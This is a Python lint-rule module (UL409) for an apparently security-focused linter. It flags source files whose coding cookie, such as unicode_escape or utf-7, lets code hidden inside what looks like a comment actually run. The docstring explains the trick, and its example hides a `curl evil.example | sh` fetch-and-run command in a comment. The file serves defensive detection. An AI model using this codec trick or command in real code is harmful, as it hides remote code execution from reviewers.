r"""Python source declares a codec under which its ASCII text is not the code that runs.

## What it does
Reports a Python file whose coding cookie (PEP 263) names a codec that does
not decode ASCII bytes to themselves: `unicode_escape`, `raw_unicode_escape`,
`utf-7`, EBCDIC code pages such as `cp037`, `utf-16`/`utf-32` and the like.
The rest of the scan analyses the file as Python decodes it.

## Why is this dangerous
Python decodes the whole file with that codec before parsing it. Under
`unicode_escape`, `\x0a` inside what looks like a comment is a newline, so
`# \x0aos.system(cmd)` is a call that runs; under `utf-7`, `+AAo-` is a
newline. An editor, a diff and a reviewer show the raw bytes, so the code
that runs is hidden in plain sight.

## Example
```python
# -*- coding: unicode_escape -*-
import os
# harmless comment \x0aos.system("curl evil.example | sh")
```

## Fix
Save the file as UTF-8 and remove the coding cookie (or declare `utf-8`).
"""

from utcp_lint.ruleset.rule import Rule

RULE = Rule(
    id="UL409",
    name="source-codec-smuggles-code",
    severity="error",
    confidence="high",
    scope="python",
    tags=("security", "python"),
    security_severity=8.0,
)

# The finding is produced while the file is read (utcp_lint.pyscan.source):
# it must be reported even when the decoded text has no shell sink, and the
# codec is only known from the raw bytes (re-reading the cookie from the
# decoded text could be fooled by an escape inside the cookie line).
